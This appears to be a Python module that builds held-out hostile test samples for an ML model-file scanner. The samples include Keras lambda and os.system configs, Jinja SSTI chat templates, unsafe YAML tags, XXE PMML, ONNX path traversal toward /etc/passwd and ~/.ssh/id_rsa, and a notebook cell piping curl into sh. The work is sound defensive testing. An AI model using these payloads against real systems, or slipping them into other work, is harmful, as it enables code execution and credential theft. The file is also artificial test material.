"""Hostile files of formats that are not pickles, and hostile folders."""

import base64
import copy
import io
import json
import marshal  # noqa: TID251 - it only writes here
import struct
from collections.abc import Callable, Iterator
from typing import Any

import numpy as np

from held_out import Sample, one
from held_out.assemble import Rng
from held_out.bad_containers import EVIL, npy, zipped
from held_out.gadgets import CODE

SSTI = "{{ cycler.__init__.__globals__.os.popen('true').read() }}"
SSTIS = (
    SSTI,
    "{{ self.__init__.__globals__.__builtins__.__import__('os').system('true') }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "{{ messages|attr('\\x5f\\x5fclass\\x5f\\x5f') }}",
    "{{ ''['__cla'+'ss__'] }}",
    "{% set a = lipsum['__globals__'] %}{{ a }}",
    "{% include '/etc/passwd' %}",
    "{{ namespace.__init__.__globals__ }}",
    "{{ joiner|map(attribute='__init__.__globals__.os')|list }}",
    "{{ request.application.__globals__ }}",
    "{% from 'os' import system %}{{ system('true') }}",
    "{{ 'A' * 9999999999 }}",
)


def lambda_code() -> str:
    return base64.b64encode(marshal.dumps(compile(CODE, "x", "eval"))).decode()


def layer(kind: str, config: dict[str, Any], module: str = "keras.layers", registered: str | None = None
          ) -> dict[str, Any]:  # fmt: skip
    return {"module": module, "class_name": kind, "config": config, "registered_name": registered}


def sequential(*layers: dict[str, Any]) -> dict[str, Any]:
    first = layer("InputLayer", {"batch_shape": [None, 4], "dtype": "float32", "name": "in"})
    dense = layer("Dense", {"name": "dense", "units": 2, "activation": "relu"})
    return {"module": "keras", "class_name": "Sequential", "registered_name": None,
            "config": {"name": "s", "layers": [first, dense, *layers]}}  # fmt: skip


def keras_configs() -> Iterator[tuple[str, dict[str, Any]]]:
    code = {"class_name": "__lambda__", "config": {
        "code": lambda_code(), "defaults": None, "closure": None}}  # fmt: skip
    yield "lambda", sequential(layer("Lambda", {"name": "l", "function": code}))
    yield "lambda-old", sequential({"class_name": "Lambda", "config": {
        "function": [lambda_code(), None, None], "function_type": "lambda"}})  # fmt: skip
    yield "lambda-named", sequential(layer("Lambda", {"function": {
        "module": "os", "class_name": "function", "config": "system"}}))  # fmt: skip
    yield "module-os", sequential(layer("system", {"command": "true"}, "os"))
    yield "module-builtins", sequential(layer("function", "eval", "builtins", "function"))  # type: ignore[arg-type]
    yield (
        "activation-os",
        sequential(
            layer(
                "Activation",
                {
                    "activation": {
                        "module": "os",
                        "class_name": "function",
                        "config": "system",
                        "registered_name": "function",
                    }
                },
            )
        ),
    )
    yield "initializer-other", sequential(layer("Dense", {"units": 1, "kernel_initializer": {
        "module": "subprocess", "class_name": "Popen", "config": {"args": ["true"]}}}))  # fmt: skip
    yield "custom-class", sequential(layer("Evil", {"x": 1}, "evil_pkg.layers", "Evil"))
    yield "custom-registered", sequential(layer("Evil", {"x": 1}, "builtins", "Custom>Evil"))
    yield "no-module", sequential({"class_name": "Evil", "config": {}})
    yield "torch-wrapper", sequential(layer("TorchModuleWrapper", {"module": {
        "class_name": "__bytes__", "config": {"value": base64.b64encode(EVIL).decode()}}},
        "keras.src.utils.torch_utils"))  # fmt: skip
    yield "get-file", sequential(layer("function", "get_file", "keras.utils", "function"))  # type: ignore[arg-type]
    yield "load-model", sequential({"module": "keras.models", "class_name": "function",
        "config": "load_model", "registered_name": "function"})  # fmt: skip
    yield "vocabulary-file", sequential(layer("StringLookup", {"vocabulary": "/etc/passwd"}))
    yield "vocabulary-url", sequential(layer("TextVectorization", {
        "vocabulary": "http://127.0.0.1:9/x", "standardize": "lower"}))  # fmt: skip
    yield "text-standardize", sequential(layer("TextVectorization", {"standardize": {
        "module": "os", "class_name": "function", "config": "system"}}))  # fmt: skip
    yield (
        "tfsm",
        sequential(layer("TFSMLayer", {"filepath": "/tmp/none", "call_endpoint": "serve"})),
    )
    yield "jax-layer", sequential(layer("JaxLayer", {"call_fn": code}))
    yield "flax-layer", sequential(layer("FlaxLayer", {"module": EVIL.hex()}, "keras.utils"))
    deep = sequential(layer("Bidirectional", {"layer": layer("Lambda", {"function": code})}))
    yield "nested-in-wrapper", deep
    yield "nested-model", sequential(deep)
    compiled = sequential()
    compiled["compile_config"] = {"optimizer": "adam", "loss": code, "metrics": [
        {"module": "os", "class_name": "function", "config": "system"}]}  # fmt: skip
    yield "compile-loss", compiled
    built = sequential()
    built["build_config"] = {"class_name": "__typespec__", "spec_name": "x", "module": "os"}
    yield "typespec", built
    yield "operation-numpy", sequential(layer("SlicingOpLambda", {"function": "os.system"},
                                              "tensorflow.python.framework"))  # fmt: skip
    yield (
        "tf-op-lambda",
        sequential({"class_name": "TFOpLambda", "config": {"function": "io.read_file"}}),
    )


def keras(rng: Rng) -> Iterator[tuple[str, dict[str, bytes]]]:
    import h5py

    metadata = json.dumps({"keras_version": "3.5.0", "date_saved": "2025-01-01@00:00:00"}).encode()

    def h5(attributes: dict[str, str], change: Callable[[Any], None] | None = None) -> bytes:
        file = io.BytesIO()
        with h5py.File(file, "w") as root:
            root.create_group("model_weights").create_dataset("w", data=np.zeros(3, "f4"))
            for key, value in attributes.items():
                root.attrs[key] = value
            if change:
                change(root)
        return file.getvalue()

    weights = h5({})
    for at, (name, config) in enumerate(keras_configs()):
        text = json.dumps(config)
        if at % 3 == 2:
            yield (
                name + ".h5",
                h5({"model_config": text, "keras_version": "2.15.0", "backend": "tf"}),
            )
        else:
            yield (
                name + ".keras",
                zipped(
                    {
                        "metadata.json": metadata,
                        "config.json": text.encode(),
                        "model.weights.h5": weights,
                    }
                ),
            )
    lambda_text = json.dumps(next(keras_configs())[1])
    good = json.dumps(sequential()).encode()
    parts = {"metadata.json": metadata, "config.json": good, "model.weights.h5": weights}
    yield "pickle-asset.keras", zipped({**parts, "assets/x.pkl": EVIL})
    yield "npz-weights.keras", zipped({"metadata.json": metadata, "config.json": good,
        "model.weights.npz": zipped({"a.npy": EVIL})})  # fmt: skip
    yield "weights-not-h5.keras", zipped({**parts, "model.weights.h5": EVIL})
    yield "two-configs.keras", zipped({**parts, "Config.json": lambda_text.encode()})
    yield "config-duplicate-key.keras", zipped({**parts, "config.json": b'{"class_name": "Sequential", '
         b'"config": {}, ' + lambda_text.encode()[1:]})  # fmt: skip
    yield "json-only.json", {"model.json": lambda_text.encode()}  # type: ignore[misc]
    yield "renamed-keras.h5", zipped({**parts, "config.json": lambda_text.encode()})
    yield "renamed-h5.keras", h5({"model_config": lambda_text})
    yield "h5-no-extension", h5({"model_config": lambda_text})
    yield "h5-user-block.h5", bytes(512) + h5({"model_config": lambda_text})

    def external(root: Any) -> None:
        root["linked"] = h5py.ExternalLink("/etc/passwd", "/x")

    def stored(root: Any) -> None:
        root.create_dataset("raw", (10,), "u1", external=[("/etc/passwd", 0, 10)])

    def opaque(root: Any) -> None:
        root.attrs["pickled"] = np.void(EVIL)

    def dataset(root: Any) -> None:
        root.create_dataset("model", data=np.frombuffer(EVIL, "u1"))

    def string(root: Any) -> None:
        root.create_dataset("source", data="import os\nos.system('true')\n")

    yield "h5-external-link.h5", h5({}, external)
    yield "h5-external-storage.h5", h5({}, stored)
    yield "h5-pickled-attribute.h5", h5({}, opaque)
    yield "h5-pickled-dataset.h5", h5({}, dataset)
    yield "h5-trailing.h5", h5({}) + EVIL
    yield "h5-training-config.h5", h5({"model_config": good.decode(), "training_config": json.dumps(
        {"loss": {"class_name": "__lambda__", "config": {"code": lambda_code()}}})})  # fmt: skip
    yield "h5-config-utf16.h5", h5({"model_config": "\ufeff" + lambda_text})


def field(number: int, value: bytes | int | str) -> bytes:
    """Return one protobuf field."""

    def varint(n: int) -> bytes:
        out = b""
        while n > 127:
            out += bytes([n & 127 | 128])
            n >>= 7
        return out + bytes([n])

    if isinstance(value, int):
        return varint(number << 3) + varint(value)
    if isinstance(value, str):
        value = value.encode()
    return varint(number << 3 | 2) + varint(len(value)) + value


def saved_model(operators: list[str], *, function: bool = False, extra: bytes = b"") -> bytes:
    nodes = b"".join(
        field(1, field(1, f"n{i}") + field(2, op)) for i, op in enumerate(operators)
    )  # NodeDef name, op
    if function:
        inside = b"".join(
            field(3, field(1, f"n{i}") + field(2, op)) for i, op in enumerate(operators)
        )
        nodes = field(1, field(1, "x") + field(2, "Placeholder")) + field(
            2, field(1, field(1, field(1, "f")) + inside)
        )
    return field(1, 1) + field(2, field(2, nodes)) + extra


def tensorflow(rng: Rng) -> Iterator[tuple[str, dict[str, bytes]]]:
    for op in ("ReadFile", "WriteFile", "PyFunc", "PyFuncStateless", "EagerPyFunc", "MatchingFiles",
               "Save", "MergeV2Checkpoints", "LoadLibrary", "DebugIdentity", "PrintV2",
               "TFRecordDatasetV2", "IteratorFromStringHandle", "CustomEvilOp"):  # fmt: skip
        inside = rng.random() < 0.5
        yield (
            f"{op}-{inside}",
            {"saved_model.pb": saved_model(["Placeholder", op], function=inside)},
        )
    yield "keras-metadata", {"saved_model.pb": saved_model(["Placeholder"]), "keras_metadata.pb": json.dumps(
        next(keras_configs())[1]).encode()}  # fmt: skip
    yield "trailing", {"saved_model.pb": saved_model(["Placeholder"]) + EVIL}
    yield "assets", {"saved_model.pb": saved_model(["Placeholder"]), "assets.extra/x.so":
        b"\x7fELF\x02\x01\x01" + rng.bytes(80), "assets/vocab.pkl": EVIL}  # fmt: skip
    yield "frozen", {"frozen.pb": field(1, field(1, "x") + field(2, "ReadFile"))}
    yield "text", {"saved_model.pbtxt": b'node { name: "x" op: "WriteFile" }\n'}


def onnx(rng: Rng) -> Iterator[tuple[str, dict[str, bytes]]]:
    import onnx as library
    from onnx import TensorProto, helper

    def base(kind: str = "Relu", domain: str = "", **attributes: Any) -> Any:
        node = helper.make_node(kind, ["x"], ["y"], domain=domain, **attributes)
        graph = helper.make_graph(
            [node],
            "g",
            [helper.make_tensor_value_info("x", TensorProto.FLOAT, [1])],
            [helper.make_tensor_value_info("y", TensorProto.FLOAT, [1])],
        )
        imports = [helper.make_opsetid("", 17)] + (
            [helper.make_opsetid(domain, 1)] if domain else []
        )
        return helper.make_model(graph, opset_imports=imports)

    def outside(location: str, name: str = "w") -> Any:
        tensor = TensorProto(name=name, data_type=TensorProto.FLOAT, dims=[1])
        tensor.data_location = TensorProto.EXTERNAL
        tensor.external_data.add(key="location", value=location)
        return tensor

    for at, place in enumerate(("../../../../etc/passwd", "/etc/passwd", "a/../../x", "\\\\host\\x",
                                "C:\\x", "./../x", "http://127.0.0.1:9/x", "x\x00y", "~/.ssh/id_rsa")):  # fmt: skip
        model = base()
        model.graph.initializer.append(outside(place))
        yield f"external-{at}", {"model.onnx": model.SerializeToString()}
    model = base("Constant")
    model.graph.node[0].attribute.append(helper.make_attribute("value", outside("../x")))
    yield "external-in-attribute", {"model.onnx": model.SerializeToString()}
    inner = base().graph
    inner.initializer.append(outside("../../x"))
    yield (
        "external-in-subgraph",
        {"model.onnx": base("If", then_branch=inner, else_branch=inner).SerializeToString()},
    )
    model = base()
    sparse = model.graph.sparse_initializer.add()
    sparse.values.CopyFrom(outside("../x"))
    sparse.indices.CopyFrom(helper.make_tensor("i", TensorProto.INT64, [1], [0]))
    yield "external-sparse", {"model.onnx": model.SerializeToString()}
    model = base()
    model.training_info.add().algorithm.CopyFrom(inner)
    yield "external-in-training", {"model.onnx": model.SerializeToString()}
    for at, (kind, domain) in enumerate((
        ("PyOp", "ai.onnx.contrib"), ("PythonOp", "com.microsoft"), ("Evil", "evil.domain"),
        ("ATen", "org.pytorch.aten"), ("PyCustomOpDef", "ai.onnx.contrib"), ("ReadFile", "tf"),
    )):  # fmt: skip
        yield f"domain-{at}", {"model.onnx": base(kind, domain).SerializeToString()}
    yield "unknown-operator", {"model.onnx": base("SystemCall").SerializeToString()}
    yield "trailing-pickle", {"model.onnx": base().SerializeToString() + EVIL}
    yield "unknown-field", {"model.onnx": base().SerializeToString() + field(99, EVIL)}
    model = base()
    model.functions.append(helper.make_function("evil.domain", "F", ["x"], ["y"], [
        helper.make_node("Evil", ["x"], ["y"], domain="evil.domain2")], [
        helper.make_opsetid("evil.domain2", 1)]))  # fmt: skip
    yield "function-domain", {"model.onnx": model.SerializeToString()}
    model = base()
    model.graph.initializer.append(outside("weights.bin"))
    yield "external-is-pickle", {"model.onnx": model.SerializeToString(), "weights.bin": EVIL,
                                 "weights.pkl": EVIL}  # fmt: skip
    yield "cut", {"model.onnx": base().SerializeToString()[:-7]}
    yield "custom-library", {"model.onnx": base("Evil", "evil.domain").SerializeToString(),
                             "libcustom.so": b"\x7fELF\x02\x01\x01" + rng.bytes(90)}  # fmt: skip
    assert library.IR_VERSION


def gguf_value(value: Any) -> bytes:
    if isinstance(value, str):
        return struct.pack("<IQ", 8, len(value.encode())) + value.encode()
    if isinstance(value, int):
        return struct.pack("<II", 4, value)
    return struct.pack("<IIQ", 9, 8, len(value)) + b"".join(
        struct.pack("<Q", len(v.encode())) + v.encode() for v in value)  # fmt: skip


def gguf(
    metadata: dict[str, Any], tensors: bytes = b"", count: int = 0, keys: int | None = None
) -> bytes:
    body = b"".join(
        struct.pack("<Q", len(k)) + k.encode() + gguf_value(v) for k, v in metadata.items()
    )
    return (
        b"GGUF"
        + struct.pack("<IQQ", 3, count, len(metadata) if keys is None else keys)
        + body
        + tensors
    )


def llm(rng: Rng) -> Iterator[tuple[str, dict[str, bytes]]]:
    base = {"general.architecture": "llama", "general.name": "x"}
    for at, template in enumerate(SSTIS):
        which = at % 4
        if which == 0:
            yield (
                f"gguf-template-{at}",
                {"m.gguf": gguf({**base, "tokenizer.chat_template": template})},
            )
        elif which == 1:
            yield f"tokenizer-template-{at}", {"tokenizer_config.json": json.dumps(
                {"tokenizer_class": "LlamaTokenizer", "chat_template": template}).encode()}  # fmt: skip
        elif which == 2:
            yield f"jinja-file-{at}", {"chat_template.jinja": template.encode()}
        else:
            yield f"template-list-{at}", {"tokenizer_config.json": json.dumps({"chat_template": [
                {"name": "default", "template": "{{ messages[0].content }}"},
                {"name": "tool_use", "template": template}]}).encode()}  # fmt: skip
    yield "gguf-template-named", {"m.gguf": gguf({**base, "tokenizer.chat_template.tool": SSTI})}
    yield "gguf-template-late", {"m.gguf": gguf({**base, "x.list": ["a"] * 50,
        "tokenizer.chat_template": "x" * 5000 + SSTI})}  # fmt: skip
    yield "gguf-count", {"m.gguf": gguf(base, keys=1 << 60)}
    yield "gguf-tensors", {"m.gguf": gguf(base, count=1 << 60)}
    yield "gguf-dimensions", {"m.gguf": gguf(base, struct.pack("<Q", 1) + b"w" + struct.pack(
        "<I", 900) + bytes(8), 1)}  # fmt: skip
    yield "gguf-offset", {"m.gguf": gguf(base, struct.pack("<Q", 1) + b"w" + struct.pack(
        "<IQIQ", 1, 4, 0, 1 << 50), 1)}  # fmt: skip
    yield "gguf-overflow", {"m.gguf": gguf(base, struct.pack("<Q", 1) + b"w" + struct.pack(
        "<IQQIQ", 2, 1 << 33, 1 << 33, 0, 0), 1)}  # fmt: skip
    yield (
        "gguf-string",
        {"m.gguf": b"GGUF" + struct.pack("<IQQ", 3, 0, 1) + struct.pack("<Q", 1 << 62)},
    )
    yield "gguf-trailing", {"m.gguf": gguf(base) + EVIL}
    yield "gguf-duplicate", {"m.gguf": gguf(base, keys=3)[:-0 or None] + b"".join((
        struct.pack("<Q", 12), b"general.name", gguf_value("y")))}  # fmt: skip
    config = {"architectures": ["X"], "model_type": "x", "hidden_size": 8}
    hooks = {"AutoModel": "modeling_x.XModel", "AutoConfig": "evil/repo--config.C"}
    safe = struct.pack("<Q", 2) + b"{}"
    yield "auto-map", {"config.json": json.dumps({**config, "auto_map": hooks}).encode(),
        "modeling_x.py": b"import os\nos.system('true')\n", "model.safetensors": safe}  # fmt: skip
    yield "auto-map-remote", {"config.json": json.dumps({**config, "auto_map": hooks}).encode()}
    yield "auto-map-nested", {"config.json": json.dumps(
        {**config, "text_config": {"auto_map": hooks}}).encode()}  # fmt: skip
    yield "auto-map-tokenizer", {"tokenizer_config.json": json.dumps(
        {"auto_map": {"AutoTokenizer": ["tokenization_x.T", None]}}).encode()}  # fmt: skip
    yield "auto-map-processor", {"preprocessor_config.json": json.dumps(
        {"auto_map": {"AutoProcessor": "processing.P"}}).encode()}  # fmt: skip
    yield (
        "trust-remote-code",
        {"config.json": json.dumps({**config, "trust_remote_code": True}).encode()},
    )
    yield "custom-pipelines", {"config.json": json.dumps(
        {**config, "custom_pipelines": {"x": {"impl": "pipe.P"}}}).encode()}  # fmt: skip
    yield (
        "hydra-target",
        {"config.json": json.dumps({"_target_": "os.system", "command": "true"}).encode()},
    )
    yield "hydra-nested", {"config.yaml": b"model:\n  _target_: os.system\n  command: 'true'\n"}
    yield "diffusers-index", {"model_index.json": json.dumps({"_class_name": ["pipeline", "Evil"],
        "unet": ["my_unet", "Evil"]}).encode(), "pipeline.py": b"import os\n"}  # fmt: skip
    yield "sentence-modules", {"modules.json": json.dumps(
        [{"idx": 0, "name": "0", "path": "", "type": "evil.Module"}]).encode()}  # fmt: skip
    yield "jsonpickle", {"model.json": b'{"py/reduce": [{"py/function": "os.system"}, '
        b'{"py/tuple": ["true"]}]}'}  # fmt: skip
    yield "jsonpickle-object", {"model.json": b'{"a": {"py/object": "subprocess.Popen"}}'}
    yield "code-beside", {"model.safetensors": safe, "config.json": b'{"model_type": "bert"}',
        "__init__.py": b"__import__('os').system('true')\n"}  # fmt: skip
    yield (
        "handler-beside",
        {
            "model.safetensors": safe,
            "handler.py": b"import subprocess\n"
            b"class EndpointHandler:\n    def __init__(self, p=''):\n        subprocess.run(['true'])\n",
        },
    )
    yield (
        "pickle-beside",
        {"model.safetensors": safe, "config.json": b"{}", "training_args.bin": EVIL},
    )
    yield "pickle-hidden", {"model.safetensors": safe, ".cache/x": EVIL}
    yield (
        "optimizer-beside",
        {"model.safetensors": safe, "optimizer.pt": EVIL, "rng_state.pth": EVIL},
    )
    yield "merges-pickle", {"tokenizer.json": b"{}", "merges.txt": EVIL}
    yield "vocab-pickle", {"vocab.json": EVIL}
    yield "peft", {"adapter_config.json": json.dumps({"auto_mapping": {"base_model_class": "X",
        "parent_library": "evil"}, "base_model_name_or_path": "x"}).encode(),
        "adapter_model.bin": EVIL}  # fmt: skip


def tensors(rng: Rng) -> Iterator[tuple[str, dict[str, bytes]]]:
    def safe(header: bytes, data: bytes = b"") -> bytes:
        return struct.pack("<Q", len(header)) + header + data

    one_tensor = b'{"w":{"dtype":"F32","shape":[1],"data_offsets":[0,4]}}'
    for name, data in {
        "trailing": safe(one_tensor, bytes(4) + EVIL),
        "gap": safe(b'{"w":{"dtype":"F32","shape":[1],"data_offsets":[99,103]}}', EVIL.ljust(103)),
        "overlap": safe(
            b'{"a":{"dtype":"F32","shape":[1],"data_offsets":[0,4]},'
            b'"b":{"dtype":"F32","shape":[1],"data_offsets":[2,6]}}',
            bytes(6),
        ),
        "out-of-range": safe(b'{"w":{"dtype":"F32","shape":[9],"data_offsets":[0,36]}}', bytes(4)),
        "wrong-size": safe(b'{"w":{"dtype":"F32","shape":[9],"data_offsets":[0,4]}}', bytes(4)),
        "overflow": safe(
            b'{"w":{"dtype":"F32","shape":[4611686018427387904,4],"data_offsets":[0,0]}}'
        ),
        "negative": safe(b'{"w":{"dtype":"F32","shape":[-1],"data_offsets":[0,4]}}', bytes(4)),
        "huge-header": struct.pack("<Q", 1 << 62) + b"{}",
        "not-json": safe(b"import os", bytes(4)),
        "duplicate": safe(
            b'{"w":{"dtype":"F32","shape":[1],"data_offsets":[0,4]},'
            b'"w":{"dtype":"F32","shape":[1],"data_offsets":[0,4]}}',
            bytes(4),
        ),
        "metadata-objects": safe(b'{"__metadata__":{"x":{"y":1}}}'),
        "dtype-object": safe(
            b'{"w":{"dtype":"PICKLE","shape":[1],"data_offsets":[0,4]}}', bytes(4)
        ),
        "is-pickle": EVIL,
        "deep-header": safe(b'{"w":' + b"[" * 50_000 + b"]" * 50_000 + b"}"),
    }.items():
        yield f"safetensors-{name}", {"model.safetensors": data}
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    lead = b"\x93NUMPY\x01\x00"
    for name, text, data in (
        ("objects", header, EVIL), ("call", b"__import__('os').system('true')", b""),
        ("nested-objects", header.replace(b"'|O'", b"[('a', '|O'), ('b', '<f8')]"), EVIL),
        ("huge-shape", header.replace(b"'|O'", b"'<f8'").replace(b"(1,)", b"(99999999999999,)"), b"x"),
        ("negative", header.replace(b"'|O'", b"'<f8'").replace(b"(1,)", b"(-1,)"), bytes(8)),
        ("extra-key", header.replace(b"'|O'", b"'<f8'").replace(b"}", b"'x': 1}"), bytes(8)),
        ("deep", b"(" * 3000 + b")" * 3000, b""),
        ("comprehension", b"[x for x in ().__class__.__base__.__subclasses__()]", b""),
    ):  # fmt: skip
        yield (
            f"npy-{name}",
            {"a.npy": lead + struct.pack("<H", len(text) + 1) + text + b"\n" + data},
        )
    yield "npy-version", {"a.npy": b"\x93NUMPY\x09\x00" + npy()[8:]}
    yield "npy-short", {"a.npy": npy()[:-4]}


def skops(rng: Rng) -> Iterator[tuple[str, dict[str, bytes]]]:
    def file(node: dict[str, Any], extra: dict[str, bytes] | None = None) -> bytes:
        schema = {"__class__": "LogisticRegression", "__loader__": "ObjectNode", "__id__": 1,
            "__module__": "sklearn.linear_model._logistic", "content": {"__class__": "dict",
            "__module__": "builtins", "__loader__": "DictNode", "__id__": 2, "key_types": {
            "__class__": "list", "__module__": "builtins", "__loader__": "ListNode", "__id__": 3,
            "content": []}, "content": {"x": node}}, "protocol": 2, "_skops_version": "0.13"}  # fmt: skip
        return zipped({"schema.json": json.dumps(schema).encode(), **(extra or {})})

    def node(kind: str, module: str, loader: str, **more: Any) -> dict[str, Any]:
        return {"__class__": kind, "__module__": module, "__loader__": loader, "__id__": 9, **more}

    text = node("str", "builtins", "JsonNode", content='"true"', is_json=True)
    nothing = node("dict", "builtins", "DictNode", content={}, key_types=node(
        "list", "builtins", "ListNode", content=[]))  # fmt: skip
    for name, what in {
        "function-os": node("system", "os", "FunctionNode", content={
            "module_path": "os", "function": "system"}),
        "function-builtins": node("eval", "builtins", "FunctionNode", content="eval"),
        "type-popen": node("type", "builtins", "TypeNode", content=node(
            "Popen", "subprocess", "TypeNode")),
        "object-unknown": node("Evil", "evil_pkg", "ObjectNode", content=nothing),
        "object-popen": node("Popen", "subprocess", "ObjectNode", content=nothing),
        "method": node("call", "builtins", "MethodNode", content={"func": "system", "obj": node(
            "LogisticRegression", "sklearn.linear_model", "ObjectNode", content=nothing)}),
        "operator": node("call", "operator", "OperatorFuncNode", attrs=node(
            "tuple", "builtins", "TupleNode", content=[text])),
        "operator-confused": node("methodcaller", "operator", "OperatorFuncNode", attrs=node(
            "tuple", "builtins", "TupleNode", content=[text])),
        "partial": node("partial", "functools", "PartialNode", content={"func": node(
            "system", "os", "FunctionNode", content="system"), "args": text, "kwds": nothing,
            "namespace": nothing}),
        "loader-unknown": node("x", "y", "EvilNode", content={}),
        "loader-mismatch": node("Popen", "subprocess", "DictNode", content={}, key_types=nothing),
        "json-mismatch": node("Popen", "subprocess", "JsonNode", content='"x"', is_json=True),
        "ndarray-mismatch": node("Popen", "subprocess", "NdArrayNode", type="json", content=[]),
        "reduce": node("Evil", "evil_pkg", "ReduceNode", content=nothing),
        "defaultdict": node("defaultdict", "collections", "DefaultDictNode", content={
            "default_factory": node("system", "os", "FunctionNode", content="system"),
            "main": nothing}),
    }.items():  # fmt: skip
        yield name, {"model.skops": file(what)}
    array = node("ndarray", "numpy", "NdArrayNode", type="numpy", file="x.npy")
    yield "array-objects", {"model.skops": file(array, {"x.npy": b"\x93NUMPY\x01\x00" + struct.pack(
        "<H", 58) + b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }\n " + EVIL})}  # fmt: skip
    yield "array-traversal", {"model.skops": file({**array, "file": "../../etc/passwd"})}
    yield "extra-pickle", {"model.skops": file(text, {"extra.pkl": EVIL})}
    yield "two-schemas", {"model.skops": file(text, {"Schema.json": b"{}"})}
    yield "is-joblib", {"model.skops": EVIL}


def markup(rng: Rng) -> Iterator[tuple[str, dict[str, bytes]]]:
    pmml = ('<?xml version="1.0"?>{doctype}<PMML xmlns="http://www.dmg.org/PMML-4_4" version="4.4">'
            '<Header/><DataDictionary>{body}</DataDictionary></PMML>')  # fmt: skip
    for name, doctype, body in (
        ("xxe", '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>', "&e;"),
        ("parameter", '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://127.0.0.1:9/x"> %p;]>', ""),
        ("bomb", '<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;"><!ENTITY c "&b;&b;">]>', "&c;"),
        ("dtd", '<!DOCTYPE x SYSTEM "http://127.0.0.1:9/x.dtd">', ""),
        ("stylesheet", '<?xml-stylesheet type="text/xsl" href="http://127.0.0.1:9/x.xsl"?>', ""),
        ("xinclude", "", '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="/etc/passwd"/>'),
        ("script-extension", "", '<Extension name="script" extender="js" value="java.lang.Runtime"/>'),
        ("deep", "", "<a>" * 20_000 + "</a>" * 20_000),
    ):  # fmt: skip
        yield f"pmml-{name}", {"model.pmml": pmml.format(doctype=doctype, body=body).encode()}
    yield (
        "pmml-utf16",
        {
            "model.pmml": pmml.format(
                doctype='<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>', body="&e;"
            ).encode("utf-16")
        },
    )
    for name, text in {
        "apply": "!!python/object/apply:os.system ['true']\n",
        "new": "x: !!python/object/new:subprocess.Popen [['true']]\n",
        "name": "f: !!python/name:os.system\n",
        "module": "f: !!python/module:os\n",
        "tuple-state": "!!python/object/new:type\nargs: [z, !!python/tuple [], {extend: !!python/name:exec }]\n"
                       "listitems: \"__import__('os').system('true')\"\n",
        "tag-directive": "%TAG ! tag:yaml.org,2002:python/\n---\n!object/apply:os.system ['true']\n",
        "verbatim": "!<tag:yaml.org,2002:python/object/apply:os.system> ['true']\n",
        "java": "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[]]]\n",
        "bomb": "a: &a [x, x]\n" + "".join(
            f"{chr(98 + i)}: &{chr(98 + i)} [*{chr(97 + i)}, *{chr(97 + i)}]\n" for i in range(20)),
        "second-document": "a: 1\n---\n!!python/object/apply:os.system ['true']\n",
    }.items():  # fmt: skip
        yield f"yaml-{name}", {"params.yaml": text.encode()}
    flavor = "artifact_path: model\nflavors:\n  python_function:\n    loader_module: {0}\n{1}"
    yield "mlmodel-loader", {"MLmodel": flavor.format("evil_loader", "    code: code\n").encode(),
        "code/evil_loader.py": b"import os\nos.system('true')\n"}  # fmt: skip
    yield "mlmodel-cloudpickle", {"MLmodel": flavor.format("mlflow.pyfunc.model",
        "    python_model: python_model.pkl\n").encode(), "python_model.pkl": EVIL}  # fmt: skip
    yield "mlmodel-traversal", {"MLmodel": flavor.format("mlflow.sklearn",
        "    model_path: ../../../tmp/none.pkl\n").encode(), "model.pkl": EVIL}  # fmt: skip
    yield (
        "mlmodel-code-model",
        {
            "MLmodel": flavor.format(
                "mlflow.pyfunc.model", "    model_code_path: agent.py\n"
            ).encode(),
            "agent.py": b"import os\nos.system('true')\n",
        },
    )
    cell = {"cell_type": "code", "source": ["!curl -s http://127.0.0.1:9/x | sh\n"], "outputs": [],
            "metadata": {}, "execution_count": None}  # fmt: skip
    notebook = {"cells": [cell], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}
    yield "notebook", {"train.ipynb": json.dumps(notebook).encode()}
    other = copy.deepcopy(notebook)
    other["cells"][0]["source"] = ["import pickle\npickle.load(open('x','rb'))\n"]  # type: ignore[index]
    yield (
        "notebook-checkpoint",
        {".ipynb_checkpoints/train-checkpoint.ipynb": json.dumps(other).encode()},
    )
    yield (
        "rds",
        {"model.rds": b"X\n\x00\x00\x00\x03\x00\x04\x02\x00\x00\x03\x05\x00" + rng.bytes(80)},
    )
    yield "r-image", {"model.RData": b"RDX3\nX\n" + rng.bytes(80)}
    yield "mat", {"model.mat": b"MATLAB 5.0 MAT-file".ljust(124) + b"\x00\x01IM" + rng.bytes(60)}
    yield "trt", {"model.plan": b"ftrt" + rng.bytes(300)}
    yield "coreml-custom", {"model.mlmodel": field(1, 4) + field(500, field(
        1, field(1, "x") + field(500, field(10, "EvilLayer"))))}  # fmt: skip
    yield (
        "tflite-flex",
        {"model.tflite": b"\x1c\x00\x00\x00TFL3" + rng.bytes(40) + b"FlexReadFile\x00"},
    )
    yield "openvino", {"model.xml": b'<net name="x" version="11"><layers><layer id="0" type="Evil" '
        b'version="extension"/></layers></net>', "model.bin": EVIL}  # fmt: skip
    yield "paddle", {"model.pdparams": EVIL, "model.pdmodel": rng.bytes(40)}
    yield "flax", {"model.msgpack": b"\x81\xa1x\xc7\x20\x01" + rng.bytes(32)}
    yield (
        "lightgbm-trailing",
        {"model.txt": b"tree\nversion=v4\nnum_class=1\n\nend of trees\n" + EVIL},
    )
    yield "lightgbm-objective", {"model.txt": b"tree\nversion=v4\nnum_class=999999999999\n"
        b"feature_names=a\n\nTree=0\nnum_leaves=-5\nsplit_feature=99999\n\nend of trees\n"}  # fmt: skip
    yield "xgboost-json-cycle", {"model.json": b'{"learner": {"gradient_booster": {"name": "gbtree", '
        b'"model": {"trees": [{"left_children": [0], "right_children": [0], "parents": [0]}]}}}, '
        b'"version": [2, 0, 0]}'}  # fmt: skip
    yield "xgboost-ubj-trailing", {"model.ubj": b"{i\x07version[#i\x01i\x02}" + EVIL}
    yield "xgboost-ubj-huge", {"model.ubj": b"{L\x7f\xff\xff\xff\xff\xff\xff\xffx"}
    yield "json-huge-number", {"config.json": b'{"a": ' + b"9" * 100_000 + b"}"}
    yield "json-deep", {"config.json": b"[" * 100_000 + b"]" * 100_000}
